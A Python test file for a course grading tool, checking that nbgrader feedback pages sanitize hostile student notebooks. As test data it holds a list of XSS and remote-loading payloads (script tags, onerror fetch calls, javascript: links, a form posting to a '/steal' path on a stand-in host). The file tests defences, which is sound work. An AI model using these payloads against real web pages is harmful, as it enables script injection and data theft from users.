"""The feedback page shows a student's notebook safely (issue 19, item 7): no script, no event
attribute, and nothing on the page loads from another host, whatever the notebook holds.

Checked on the exporter the course configures, and through the real flow (release, ``coursekit
grade``, ``nbgrader generate_feedback``) with a submission that tries every way in.
"""

from __future__ import annotations

import base64
import re
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, ClassVar

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from coursekit.grading.nbgrader.feedback import safe_html

ROOT = Path(__file__).resolve().parent.parent
HOST = "evil.example"

#: Markdown a student can write, each trying to run code or to load something from HOST.
MARKDOWN = [
    f"<script>alert('{HOST}')</script>",
    f"<script src='http://{HOST}/a.js'></script>",
    f'<img src="http://{HOST}/pixel.png">',
    f'<img src="x" onerror="fetch(\'http://{HOST}\')">',
    f'<p onmouseover="alert(1)" style="background: url(http://{HOST}/bg.png)">hover</p>',
    f"![a picture](http://{HOST}/picture.png)",
    f"![protocol-relative](//{HOST}/picture.png)",
    f"[a link](http://{HOST}/page)",
    '<a href="javascript:alert(1)">click</a>',
    f'<iframe src="http://{HOST}/frame"></iframe>',
    f'<object data="http://{HOST}/o.swf"></object>',
    f'<link rel="stylesheet" href="http://{HOST}/style.css">',
    f"<style>@import url(http://{HOST}/style.css); body {{ background: url(//{HOST}/bg.png) }}</style>",
    f'<svg><image href="http://{HOST}/i.png"/><script>alert(1)</script></svg>',
    f'<img srcset="http://{HOST}/a.png 1x, http://{HOST}/b.png 2x">',
    f'<meta http-equiv="refresh" content="0; url=http://{HOST}/">',
    f'<base href="http://{HOST}/">',
    f'<form action="http://{HOST}/steal"><input type="image" src="http://{HOST}/b.png"></form>',
    f'<video poster="http://{HOST}/p.png" src="http://{HOST}/v.mp4"></video>',
    "![attached](attachment:page.html)",
    "![attached svg](attachment:drawing.svg)",
    "![not attached](attachment:nothing.png)",  # nbconvert stops on a missing attachment: the page must not
]

SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://{HOST}/i.png"/></svg>'
ATTACHMENTS = {
    "page.html": {"text/html": base64.b64encode(f"<script src='http://{HOST}/a.js'></script>".encode()).decode()},
    "drawing.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
}

#: Rich outputs a notebook can hold (the grader makes text only, but a notebook may carry any).
OUTPUTS = [
    new_output("display_data", data={"text/html": f"<img src='http://{HOST}/o.png' onload='alert(1)'>ok",
                                     "text/plain": "ok"}),
    new_output("display_data", data={"application/javascript": f"fetch('http://{HOST}/')"}),
    new_output("display_data", data={"image/svg+xml": SVG}),
    new_output("display_data", data={"text/markdown": f"![m](http://{HOST}/m.png)"}),
    new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": "abc"}}),
]

WIDGETS = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2, "version_minor": 0}}


class _Urls(HTMLParser):
    """Every address on a page: in any attribute that holds one, in ``style`` and in ``<style>``."""

    ADDRESS_ATTRIBUTES: ClassVar[set[str]] = {"src", "href", "srcset", "xlink:href", "data", "action", "formaction",
                                              "poster", "background", "cite", "longdesc", "content"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.urls: list[str] = []
        self.scripts: list[str] = []
        self.events: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on"):
                self.events.append(f"<{tag} {name}>")
            if value is None:
                continue
            if name == "srcset":
                self.urls += [part.split()[0] for part in value.split(",") if part.strip()]
            elif name == "content":
                self.urls += re.findall(r"url\s*=\s*(\S+)", value, re.I)
            elif name in self.ADDRESS_ATTRIBUTES:
                self.urls.append(value)
            elif name == "style":
                self.urls += re.findall(r"url\(\s*['\"]?([^'\")]+)", value, re.I)
        if tag == "script":
            self.scripts.append(dict(attrs).get("type") or "text/javascript")
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        if tag == "style":
            self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.urls += re.findall(r"(?:url\(|@import)\s*['\"]?([^'\")\s;]+)", data, re.I)


def foreign(urls: list[str]) -> list[str]:
    """The addresses that are not on the page itself (``#...``), embedded (``data:``) or local (a
    relative path: no scheme, no ``//host``)."""
    elsewhere = re.compile(r"^\s*([a-z][a-z0-9+.-]*:|[/\\]{2})", re.I)
    return [url for url in urls if elsewhere.match(url) and not url.strip().lower().startswith("data:")]


def check_page(html: str) -> None:
    """Nothing on the page loads from another host, runs the student's code or reacts to events."""
    parser = _Urls()
    parser.feed(html)
    parser.close()
    assert foreign(parser.urls) == [], foreign(parser.urls)
    assert parser.events == [], parser.events
    assert set(parser.scripts) <= {"text/x-mathjax-config"}, parser.scripts  # the template's, inert without MathJax
    assert HOST not in html, html[max(0, html.find(HOST) - 300):html.find(HOST) + 100]
    assert "alert(" not in html and "widget-state" not in html and "embed-amd" not in html


def hostile_cells() -> list[Any]:
    markdown = new_markdown_cell("\n\n".join(MARKDOWN))
    markdown["attachments"] = ATTACHMENTS
    return [markdown, new_raw_cell(f"<script src='http://{HOST}/raw.js'></script><b>raw</b>"),
            new_code_cell("show()", outputs=list(OUTPUTS))]


def test_the_cleaner_keeps_text_tables_and_code() -> None:
    html = "<table><tr><th>part</th><td>4</td></tr></table><pre><code class='language-python'>x = 1</code></pre>"
    assert safe_html(html) == ('<table><tbody><tr><th>part</th><td>4</td></tr></tbody></table>'
                               '<pre><code class="language-python">x = 1</code></pre>')


@pytest.mark.parametrize("markdown", MARKDOWN)
def test_the_cleaner_removes_each_attempt(markdown: str) -> None:
    parser = _Urls()
    parser.feed(safe_html(markdown))
    assert foreign(parser.urls) == [] and parser.events == [] and parser.scripts == []


def test_the_feedback_page_of_a_hostile_notebook_loads_nothing() -> None:
    pytest.importorskip("nbgrader")
    from nbgrader.converters import GenerateFeedback
    from nbgrader.coursedir import CourseDirectory
    from traitlets.config.loader import PyFileConfigLoader

    from coursekit.grading.nbgrader.feedback import SafeOutputs

    config = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT / "assignments")).load_config()
    feedback = GenerateFeedback(coursedir=CourseDirectory(config=config), config=config)
    exporter = feedback.exporter_class(parent=feedback, config=feedback.config)
    nb = nbformat.v4.new_notebook(cells=[new_markdown_cell("# Part 1\n\n| part | points |\n|---|---|\n| f | 4 |"),
                                         *hostile_cells()], metadata={"widgets": WIDGETS})
    nb, _ = SafeOutputs().preprocess(nb, {})
    html, _ = exporter.from_notebook_node(
        nb, resources={"nbgrader": {"notebook": "ps01", "score": 0, "max_score": 4, "late_penalty": 0}})
    check_page(html)
    assert "<td>4</td>" in html and 'href="#Part-1"' in html, "the instructor's Markdown is still shown"
    assert "<b>raw</b>" in html and "hover" in html and "ok" in html
    assert "not shown in the feedback" in html


@pytest.mark.slow
def test_the_real_feedback_of_a_hostile_submission_loads_nothing(tmp_path: Path) -> None:
    from coursekit.grading.sandbox import bubblewrap

    if bubblewrap() is None:
        pytest.skip("bubblewrap is not installed")
    sys.path.insert(0, str(Path(__file__).parent))
    from nbgrader_course import Source, Student, run_course

    def add_hostile_cells(nb: Any) -> None:
        nb.cells[1:1] = hostile_cells()
        nb.metadata["widgets"] = WIDGETS

    run = run_course(Source("ps01"), {"hostile_html": Student({}, zero="all", mutate=add_hostile_cells)}, tmp_path)
    html = run.feedback_html("hostile_html")
    check_page(html)
    assert "<b>raw</b>" in html and "hover" in html
